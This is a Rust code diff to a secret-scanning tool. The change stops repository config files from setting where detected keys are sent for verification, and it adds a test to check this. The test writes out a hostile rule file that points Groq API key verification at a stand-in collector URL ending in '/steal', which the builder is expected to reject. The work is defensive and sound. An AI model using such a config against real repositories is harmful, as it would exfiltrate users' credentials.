@@ -16,7 +16,9 @@ use regex_automata::meta::Regex;
 pub use builtin::builtin_rule_files;
 pub(crate) use compile::build_regex as compile_regex;
 pub(crate) use syntax::{line_column, toml_error};
-pub use syntax::{ChecksumKind, Example, RuleFile, RuleSyntax, Severity};
+pub use syntax::{
+    ChecksumKind, Example, RuleFile, RuleSyntax, Severity, VerifyAuth, VerifyMethod, VerifySyntax,
+};
 
 /// Why a rule or a rule file could not be loaded.
 #[derive(Debug, thiserror::Error)]
@@ -159,7 +161,9 @@ impl RuleSet {
 /// Collects rule files, overrides and disabled ids, then compiles them once.
 #[derive(Debug, Default)]
 pub struct RuleSetBuilder {
-    rules: Vec<(String, RuleSyntax, syntax::Spans)>,
+    /// Origin, rule, where it was written, and whether it is built in (by flag, not
+    /// by origin name: a config path may look like anything).
+    rules: Vec<(String, RuleSyntax, syntax::Spans, bool)>,
     disabled: Vec<String>,
 }
 
@@ -167,7 +171,10 @@ impl RuleSetBuilder {
     /// Adds every built-in rule.
     pub fn add_builtin(&mut self) -> Result<&mut Self, RuleError> {
         for (name, text) in builtin_rule_files() {
-            self.add_toml(&format!("{BUILTIN_ORIGIN}{name}"), text)?;
+            let origin = format!("{BUILTIN_ORIGIN}{name}");
+            for (rule, spans) in syntax::parse_rule_file(&origin, text)? {
+                self.add_rule(&origin, rule, spans, true)?;
+            }
         }
         Ok(self)
     }
@@ -177,7 +184,7 @@ impl RuleSetBuilder {
     pub fn add_toml(&mut self, origin: &str, text: &str) -> Result<&mut Self, RuleError> {
         let parsed = syntax::parse_rule_file(origin, text)?;
         for (rule, spans) in parsed {
-            self.add_rule(origin, rule, spans)?;
+            self.add_rule(origin, rule, spans, false)?;
         }
         Ok(self)
     }
@@ -191,7 +198,7 @@ impl RuleSetBuilder {
     ) -> Result<&mut Self, RuleError> {
         for rule in rules {
             let spans = syntax::Spans::of(text, rule.span());
-            self.add_rule(origin, rule.into_inner(), spans)?;
+            self.add_rule(origin, rule.into_inner(), spans, false)?;
         }
         Ok(self)
     }
@@ -201,17 +208,18 @@ impl RuleSetBuilder {
         origin: &str,
         rule: RuleSyntax,
         spans: syntax::Spans,
+        builtin: bool,
     ) -> Result<(), RuleError> {
-        if let Some(existing) = self.rules.iter_mut().find(|(_, r, _)| r.id == rule.id) {
+        if let Some(existing) = self.rules.iter_mut().find(|(_, r, _, _)| r.id == rule.id) {
             if existing.0 == origin {
                 return Err(RuleError::Duplicate {
                     origin: origin.to_string(),
                     rule: rule.id,
                 });
             }
-            *existing = (origin.to_string(), rule, spans);
+            *existing = (origin.to_string(), rule, spans, builtin);
         } else {
-            self.rules.push((origin.to_string(), rule, spans));
+            self.rules.push((origin.to_string(), rule, spans, builtin));
         }
         Ok(())
     }
@@ -225,7 +233,7 @@ impl RuleSetBuilder {
     /// Compiles every rule and the keyword automaton.
     pub fn build(&self) -> Result<RuleSet, RuleError> {
         for id in &self.disabled {
-            if !self.rules.iter().any(|(_, r, _)| &r.id == id) {
+            if !self.rules.iter().any(|(_, r, _, _)| &r.id == id) {
                 return Err(RuleError::Invalid {
                     origin: "disable".into(),
                     line: 0,
@@ -238,11 +246,22 @@ impl RuleSetBuilder {
         let rules = self
             .rules
             .iter()
-            .filter(|(_, r, _)| !self.disabled.contains(&r.id))
-            .map(|(origin, r, spans)| {
+            .filter(|(_, r, _, _)| !self.disabled.contains(&r.id))
+            .map(|(origin, r, spans, builtin)| {
                 // Built-in regexes are compiled by the test suite; users' compile now.
-                let eager = !origin.starts_with(BUILTIN_ORIGIN);
-                compile::compile_rule(origin, r.clone(), spans, eager)
+                let builtin = *builtin;
+                if !builtin && r.verify.is_some() {
+                    // A repository's keyhook.toml is pushed content: if it could say
+                    // where a key is sent, one commit could collect every key.
+                    return Err(RuleError::Invalid {
+                        origin: origin.clone(),
+                        line: spans.line,
+                        column: spans.column,
+                        rule: r.id.clone(),
+                        message: "a `verify` table is allowed only in built-in rules: a config file must not decide where keys are sent (override a check's host with KEYHOOK_<PROVIDER>_BASE_URL instead)".into(),
+                    });
+                }
+                compile::compile_rule(origin, r.clone(), spans, !builtin)
             })
             .collect::<Result<Vec<_>, _>>()?;
         compile::assemble(rules)
@@ -295,6 +314,35 @@ remediation = "x"
             "override"
         );
         assert!(set.find("openai-legacy-key").is_none());
+    }
+
+    #[test]
+    fn a_config_rule_may_not_say_where_keys_go() {
+        let mut b = RuleSet::builder();
+        b.add_builtin().unwrap();
+        // Even under an origin that looks built-in, and even overriding a built-in id.
+        b.add_toml(
+            "builtin/evil.toml",
+            r#"
+[[rules]]
+id = "groq-api-key"
+provider = "Groq"
+description = "d"
+regex = '(?P<secret>gsk_[A-Za-z0-9]{52})'
+keywords = ["gsk_"]
+revoke_url = "u"
+remediation = "r"
+[rules.verify]
+url = "https://collector.example/steal"
+auth = "bearer"
+"#,
+        )
+        .unwrap();
+        let err = b.build().unwrap_err().to_string();
+        assert!(
+            err.starts_with("builtin/evil.toml:2:1: rule `groq-api-key`: a `verify` table"),
+            "{err}"
+        );
     }
 
     #[test]
